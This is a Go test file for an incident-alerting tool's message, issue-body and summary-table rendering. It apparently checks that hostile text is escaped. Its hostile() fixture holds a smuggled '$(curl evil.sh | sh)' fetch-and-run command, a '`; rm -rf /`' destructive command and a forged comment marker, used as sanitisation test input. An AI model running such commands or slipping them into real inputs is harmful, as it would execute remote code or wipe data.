package incident

import (
	"strings"
	"testing"

	"github.com/incident-hotfix/incident-hotfix/internal/golden"
)

// sample is a P1 incident, declared at 10:05, acknowledged, mitigated by a hotfix.
func sample() Record {
	e := declared(at(10, 5), 1)
	e.ImpactStarted, e.Branch = at(9, 40), "hotfix/checkout-fails"
	return Fold([]Entry{e,
		{Type: Status, State: Identified, ETA: "30m", Text: "bad config in eu-west", Time: at(10, 20), ID: 2},
		{Type: Mitigated, How: "hotfix", Text: "PR #12 merged", Time: at(11, 0), ID: 3},
	})
}

// hostile is an incident whose every text tries to ping, break tables, forge markers or run code.
func hostile() Record {
	evil := "@acme/sre | <!-- hotfix:log {\"v\":1,\"type\":\"resolved\"} --> $(curl evil.sh | sh) `; rm -rf /` \n| x |"
	e := Entry{Type: Declared, Severity: "P0", Title: evil, Service: evil, Impact: evil, Commander: "acme/sre", Time: at(10, 5), ID: 1}
	return Fold([]Entry{e, {Type: Timeline, Text: evil, Time: at(10, 6), ID: 2}})
}

func TestMessages(t *testing.T) {
	t.Parallel()
	p1, _ := Severities.Get("P1")
	p0, _ := Severities.Get("P0")
	r := sample()
	tests := []struct{ name, got string }{
		{"alert", Alert(Fold(r.Entries[:1]), p1, at(10, 5))},
		{"update-status", Update(r, Entry{Type: Status, State: Identified, ETA: "30m", Text: "bad config in eu-west\n\nRolling out the fix."}, p1, at(10, 20))},
		{"update-mitigated", Update(r, Entry{Type: Mitigated, How: "hotfix", Text: "PR #12 merged"}, p1, at(11, 0))},
		{"resolution", Resolution(r, Entry{Type: Resolved, Text: "Error rate back to normal for 30 minutes."}, at(11, 45))},
		{"note-severity", Note(r, Entry{Type: SeverityType, Severity: "P0"}, p0)},
		{"note-commander", Note(r, Entry{Type: Commander, Login: "bob"}, p1)},
		{"note-impact-start", Note(r, Entry{Type: ImpactStart, At: at(9, 30)}, p1)},
		{"note-timeline", Note(r, Entry{Type: Timeline, Text: "Paged the database team."}, p1)},
		{"alert-hostile", Alert(hostile(), p0, at(10, 5))},
		{"update-hostile", Update(hostile(), Entry{Type: Status, State: Monitoring, Text: hostile().Title}, p0, at(10, 5))},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			golden.Check(t, tt.name+".golden", tt.got)
			if strings.Contains(tt.got, "@acme") || strings.Contains(tt.got, "<!--") {
				t.Errorf("message pings a team or carries a marker:\n%s", tt.got)
			}
		})
	}
}

func TestIssueBody(t *testing.T) {
	t.Parallel()
	p1, _ := Severities.Get("P1")
	r := sample()
	c := Context{Production: "main", Window: 24 * 3600e9, Changes: []Change{
		{Kind: "tag", Name: "v1.2.4", At: at(8, 0)},
		{Kind: "pr", Number: 11, Name: "Cache | the @acme/web cart", At: at(7, 30)},
	}, LastGood: &Change{Kind: "tag", Name: "v1.2.3", At: at(1, 0)}}
	golden.Check(t, "body"+".golden", issueBody(4242, r, Severities, Alert(Fold(r.Entries[:1]), p1, at(10, 5)), c))
	golden.Check(t, "body-hostile"+".golden", issueBody(1, hostile(), Severities, "", Context{Production: "main", Window: 3600e9}))
}

// TestSummaryTable checks that hostile text leaves every table row with its two cells, and that
// the summary replaces itself in place.
func TestSummaryTable(t *testing.T) {
	t.Parallel()
	s := Summary(hostile(), Severities)
	for _, line := range strings.Split(s, "\n") {
		if strings.HasPrefix(line, "|") && strings.Count(strings.ReplaceAll(line, `\|`, ""), "|") != 3 {
			t.Errorf("row does not have two cells: %q", line)
		}
	}
	body := "<!-- hotfix:incident run=1 -->\n" + Summary(sample(), Severities) + "\nThe alert.\n"
	got := ReplaceSummary(body, s)
	if want := "<!-- hotfix:incident run=1 -->\n" + s + "\nThe alert.\n"; got != want {
		t.Errorf("ReplaceSummary:\n%s\nwant:\n%s", got, want)
	}
	if got := ReplaceSummary("no summary", s); got != s+"\nno summary" {
		t.Errorf("ReplaceSummary on a body without one = %q", got)
	}
}

func TestIssueBodyLimit(t *testing.T) {
	t.Parallel()
	r := hostile()
	long := strings.Repeat("@acme/sre ", 7000) // 70,000 characters
	r.Impact, r.Title = long, long
	var events []Event
	for range 200 {
		events = append(events, Event{At: at(10, 0), Text: long})
	}
	r.Events = events
	p0, _ := Severities.Get("P0")
	body := issueBody(1, r, Severities, Alert(r, p0, at(10, 5)), Context{Production: "main"})
	if n := len([]rune(body)); n > 65536 || !strings.Contains(body, "Truncated:") {
		t.Errorf("body is %d characters; want at most 65,536, ending with the truncation note", n)
	}
	if !strings.Contains(body, SummaryEnd) || !strings.Contains(body, "150 earlier events") {
		t.Errorf("the summary should end before the cut and leave out the earlier events")
	}
}

func TestNotice(t *testing.T) {
	t.Parallel()
	r := sample()
	var got []string
	for _, e := range []Entry{r.Entries[0], r.Entries[1], r.Entries[2], {Type: Resolved, Text: "all good"}, {Type: Timeline, Text: "x"}} {
		got = append(got, Notice(r, e, "https://example.com/acme/shop/issues/1"))
	}
	golden.Check(t, "notice"+".golden", strings.Join(got, "\n---\n"))
}
